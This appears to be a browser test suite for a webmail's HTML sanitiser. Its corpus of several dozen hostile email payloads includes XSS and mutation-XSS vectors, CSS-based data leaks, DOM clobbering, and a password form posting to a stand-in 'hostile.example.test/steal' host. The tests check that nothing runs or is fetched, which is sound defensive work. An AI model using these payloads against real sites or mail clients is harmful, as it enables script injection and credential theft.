/**
 * Hostile messages against the real sanitiser in a real browser, shown in the real frame: nothing runs, nothing is
 * fetched, nothing escapes. The corpus holds the classes of peers' published holes; it grows with every incident.
 */
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { bundleModule, sharedBrowser } from "../browser.ts";

const remote = "https://hostile.example.test";
const run = "parent.postMessage('pwned','*');window.top.pwned=1;globalThis.pwned=1";

/** Name, message, and whether something remote had to be counted. */
const corpus: readonly [string, string, boolean?][] = [
  ["a script", `<script>${run}</script><p>ok</p>`],
  ["a script cut in two", `<scr<script>ipt>${run}</scr</script>ipt>`],
  ["an event handler", `<img src=x onerror="${run}"><div onclick=${JSON.stringify(run)}>x</div>`],
  ["handlers behind slashes", `<img/src=x/onerror=${run.replaceAll(" ", "")}>`],
  ["a details toggle", `<details open ontoggle="${run}"><summary>x</summary></details>`],
  ["a javascript: link", `<a href="javascript:${run}">x</a><a href=" java\nscript:${run}">y</a>`],
  [
    "an encoded javascript: link",
    `<a href="&#106;avascript:${run}">x</a><a href="jav&Tab;ascript:${run}">y</a>`,
  ],
  ["a data: page", `<a href="data:text/html,<script>${run}</script>">x</a>`],
  [
    "a data: svg image",
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  ],
  ["vbscript and blob", `<a href="vbscript:msgbox(1)">x</a><a href="blob:${remote}/1">y</a>`],
  ["a remote image", `<img src="${remote}/pixel.gif" width=1 height=1>`, true],
  ["a protocol-relative image", `<img src="//hostile.example.test/pixel.gif">`, true],
  [
    "srcset",
    `<img srcset="${remote}/a.png 1x"><picture><source srcset="${remote}/b.png"><img></picture>`,
    true,
  ],
  [
    "a background attribute",
    `<body background="${remote}/b.png"><table background="${remote}/t.png"><td>x</table>`,
    true,
  ],
  [
    "css url()",
    `<p style="background:url(${remote}/c.png)">x</p><p style="list-style:url('${remote}/d.png')">y</p>`,
    true,
  ],
  [
    "css url() with escapes",
    `<p style="background:\\75rl(${remote}/c.png)">x</p><p style="background:u/**/rl(${remote}/c.png)">y</p>`,
  ],
  ["an unclosed url(", `<p style="background:url(${remote}/c.png">x</p>`, true],
  [
    "css var() that carries a URL",
    `<div style="--a:url(${remote}/v.png)"><p style="background:var(--a)">x</p></div>`,
    true,
  ],
  ["css image-set", `<p style="background-image:image-set('${remote}/i.png' 1x)">x</p>`, true],
  ["@import", `<style>@import url(${remote}/s.css);</style><style>@import "${remote}/t.css";</style>x`, true],
  [
    "a remote font",
    `<style>@font-face{font-family:a;src:url(${remote}/f.woff2)}p{font-family:a}</style><p>x</p>`,
    true,
  ],
  [
    "a style sheet that spies",
    `<style>input[value^=a]{background:url(${remote}/a)}</style><input value=abc>`,
    true,
  ],
  [
    "a link element",
    `<link rel=stylesheet href="${remote}/s.css"><link rel=prefetch href="${remote}/p"><link rel=dns-prefetch href="${remote}">`,
    true,
  ],
  ["meta refresh", `<meta http-equiv="refresh" content="0;url=${remote}/away"><p>x</p>`],
  ["a base address", `<base href="${remote}/"><a href="page">x</a><img src="pixel.gif">`],
  [
    "a form",
    `<form action="${remote}/steal"><input name=password type=password><button>Se connecter</button></form>`,
  ],
  ["a form by attribute", `<button formaction="${remote}/x" form=a>x</button><isindex action="${remote}">`],
  [
    "frames and objects",
    `<iframe src="${remote}/f"></iframe><object data="${remote}/o"></object><embed src="${remote}/e"><frame src="${remote}">`,
    true,
  ],
  ["an iframe with srcdoc", `<iframe srcdoc="<script>${run}</script>"></iframe>`],
  [
    "media",
    `<video src="${remote}/v.mp4" poster="${remote}/p.png" autoplay></video><audio src="${remote}/a.mp3" autoplay></audio><track src="${remote}/t">`,
  ],
  ["svg with a script", `<svg onload="${run}"><script>${run}</script><image href="${remote}/i.png"/></svg>`],
  [
    "svg animation of an attribute",
    `<svg><a><animate attributeName="href" values="javascript:${run}"/><text>x</text></a></svg>`,
  ],
  [
    "svg animation of style",
    `<svg><animate attributeName="style" values="background:url(${remote}/a)"/><rect fill="url(${remote}/r)"/></svg>`,
  ],
  [
    "svg foreignObject",
    `<svg><foreignObject><iframe src="javascript:${run}"></iframe></foreignObject></svg>`,
  ],
  [
    "svg use",
    `<svg><use href="${remote}/u.svg#x"/><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"/></svg>`,
  ],
  ["math", `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`],
  ["mXSS by noscript", `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`],
  [
    "mXSS by math and style",
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  ],
  ["mXSS by svg and style", `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`],
  [
    "mXSS by table",
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  ],
  [
    "mXSS by template",
    `<template><s><template><s><img src=x onerror=${run}>@test</s></template></s></template>`,
  ],
  [
    "mXSS by select",
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`,
  ],
  ["a comment that ends early", `<!--><img src=x onerror=${run}>--><p>ok</p>`],
  ["CDATA", `<![CDATA[><img src=x onerror=${run}>]]>`],
  ["xmp and plaintext", `<xmp><img src=x onerror=${run}></xmp><plaintext><img src=x onerror=${run}>`],
  [
    "DOM clobbering",
    `<form id=parentNode><input name=attributes><input id=nodeName></form><img name=getElementById><a id=cookie href=x>x</a>`,
  ],
  [
    "expression and behavior",
    `<p style="width:expression(${run});behavior:url(${remote}/x.htc);-moz-binding:url(${remote}/x)">x</p>`,
    true,
  ],
  [
    "a layer over the page",
    `<div style="position:fixed;inset:0;z-index:9999;background:#fff">Votre session a expiré</div>`,
  ],
  ["a ping link", `<a href="https://ok.test/" ping="${remote}/ping" target="_top" download>x</a>`],
  ["a link without a name for its opener", `<a href="${remote}/x" target="_self" rel="opener">x</a>`],
  [
    "dialog and popover",
    `<dialog open>x</dialog><div popover id=p>y</div><button popovertarget=p>z</button>`,
  ],
  ["marquee handlers", `<marquee onstart="${run}">x</marquee><body onload="${run}" onpageshow="${run}">`],
  [
    "utf-7 and null bytes",
    `+ADw-script+AD4-${run}+ADw-/script+AD4-<scr\0ipt>${run}</scr\0ipt><img src=x o\0nerror=${run}>`,
  ],
  [
    "a shadow root",
    `<div><template shadowrootmode=open><img src=x onerror="${run}"><link rel=stylesheet href="${remote}/s.css"></template></div>`,
  ],
  ["a cid that names another host", `<img src="cid:${remote}/x"><img src="cid:../../evil">`],
  [
    "speculation and import maps",
    `<script type=speculationrules>{"prefetch":[{"urls":["${remote}/s"]}]}</script>`,
  ],
  ["very deep nesting", `${"<div>".repeat(5000)}<img src=x onerror="${run}">`],
];

/** The page hands the module over as a global: an import() in an evaluated function is not the browser's own here. */
const pageSource = `<!doctype html><title>webmail</title><body></body>
<script type="module">import * as module from "/sanitise.js"; globalThis.sanitiser = module;</script>`;
type Sanitiser = typeof import("../../../web/src/lib/reader/sanitise.ts");

let page: Page;
const fetched: string[] = [];

beforeAll(async () => {
  const module = bundleModule("web/src/lib/reader/sanitise.ts");
  page = await (await sharedBrowser()).newPage();
  await page.route("**/*", async (route) => {
    const url = route.request().url();
    if (url === "https://webmail.test/") {
      await route.fulfill({
        contentType: "text/html",
        body: pageSource,
      });
    } else if (url === "https://webmail.test/sanitise.js") {
      await route.fulfill({ contentType: "text/javascript", body: module });
    } else {
      fetched.push(url);
      await route.abort();
    }
  });
  await page.goto("https://webmail.test/");
  await page.waitForFunction(() => "sanitiser" in globalThis);
}, 60_000);

afterAll(() => page?.context().close());

/** Sanitises as the reader does; `isolated` shows it in the reader's frame, else bare in a page with scripts allowed. */
async function show(html: string, isolated: boolean) {
  fetched.length = 0;
  const result = await page.evaluate(async ({ html, isolated }) => {
    const { sanitiseMail, frameDocument } = (globalThis as unknown as { sanitiser: Sanitiser }).sanitiser;
    const resolve = (cid: string) => (cid === "logo" ? `${location.origin}/jmap/download/a/b/c` : undefined);
    const clean = sanitiseMail(html, resolve);
    const frame = document.createElement("iframe");
    if (isolated) {
      frame.setAttribute("sandbox", "allow-same-origin allow-popups allow-popups-to-escape-sandbox");
    }
    frame.srcdoc = isolated ? frameDocument(clean.html, location.origin, "fr") : clean.html;
    const loaded = new Promise((resolve) => frame.onload = resolve);
    document.body.replaceChildren(frame);
    await loaded;
    for (const link of frame.contentDocument?.querySelectorAll("details") ?? []) link.open = true;
    await new Promise((resolve) => setTimeout(resolve, 20)); // an image's error handler runs in a later task
    return { ...clean, pwned: "pwned" in window, body: frame.contentDocument?.body.innerHTML ?? "" };
  }, { html, isolated });
  return { ...result, fetched: [...fetched] };
}

describe("a hostile message", () => {
  // Bare, without frame, sandbox and policy: the allow-list alone must hold.
  test.each(corpus)("%s: nothing runs and nothing is fetched even without the frame", async (_, html) => {
    const { pwned, fetched, html: clean } = await show(html, false);
    expect(pwned).toBe(false);
    expect(fetched).toEqual([]);
    expect(clean).not.toMatch(
      /<(script|style|link|meta|base|form|input|button|iframe|object|embed|svg|math|video|audio|template|dialog)\b/i,
    );
    expect(clean).not.toMatch(/\son\w+\s*=|javascript:|srcset|url\(|position|@import|\bid=|\bname=|\bping=/i);
  });

  test.each(corpus)("%s: nothing runs and nothing is fetched in the frame", async (_, html) => {
    const { pwned, fetched } = await show(html, true);
    expect(pwned).toBe(false);
    expect(fetched).toEqual([]);
  });

  test.each(corpus.filter(([, , isCounted]) => isCounted === true))(
    "%s: the reader is told of remote content",
    async (_, html) => {
      expect((await show(html, true)).blockedRemote).toBeGreaterThan(0);
    },
  );

  // The other locks alone: had the allow-list a hole, sandbox and policy still hold.
  test("unsanitised in the frame still runs nothing and fetches nothing", async () => {
    fetched.length = 0;
    const all = corpus.filter(([name]) => !/refresh|base|nesting|xmp/.test(name)).map(([, html]) => html)
      .join("\n");
    const pwned = await page.evaluate(async (html) => {
      const { frameDocument } = (globalThis as unknown as { sanitiser: Sanitiser }).sanitiser;
      const frame = document.createElement("iframe");
      frame.setAttribute("sandbox", "allow-same-origin allow-popups allow-popups-to-escape-sandbox");
      frame.srcdoc = frameDocument(html, location.origin, "fr");
      const loaded = new Promise((resolve) => frame.onload = resolve);
      document.body.replaceChildren(frame);
      await loaded;
      await new Promise((resolve) => setTimeout(resolve, 100));
      return "pwned" in window;
    }, all);
    expect(pwned).toBe(false);
    expect(fetched).toEqual([]);
  });
});

describe("an honest message", () => {
  test("keeps its words, its tables and its harmless styles", async () => {
    const { html } = await show(
      `<p style="color:#333;font-weight:bold;margin:4px">Cher <b>confrère</b></p><table border="1" cellpadding="4"><tr><td align="right" colspan="2">7,2</td></tr></table>`,
      true,
    );
    expect(html).toContain("<b>confrère</b>");
    expect(html).toMatch(/color:\s?rgb\(51, 51, 51\)/);
    expect(html).toContain('colspan="2"');
  });

  test("shows its own inline images and data images, and counts none as remote", async () => {
    const { html, blockedRemote } = await show(
      `<img src="cid:logo" alt="Logo"><img src="data:image/png;base64,iVBORw0KGgo=">`,
      false,
    );
    expect(html).toContain('src="https://webmail.test/jmap/download/a/b/c"');
    expect(html).toContain("data:image/png;base64,");
    expect(blockedRemote).toBe(0);
  });

  test("opens its links in a new tab that knows nothing of the webmail", async () => {
    const { html } = await show(`<a href="https://sante.fr/x">x</a><a href="mailto:a@b.test">y</a>`, true);
    expect(html).toMatch(/<a[^>]+href="https:\/\/sante\.fr\/x"[^>]*>/);
    expect(html.match(/target="_blank"/g)).toHaveLength(2);
    expect(html.match(/rel="noopener noreferrer nofollow"/g)).toHaveLength(2);
  });
});
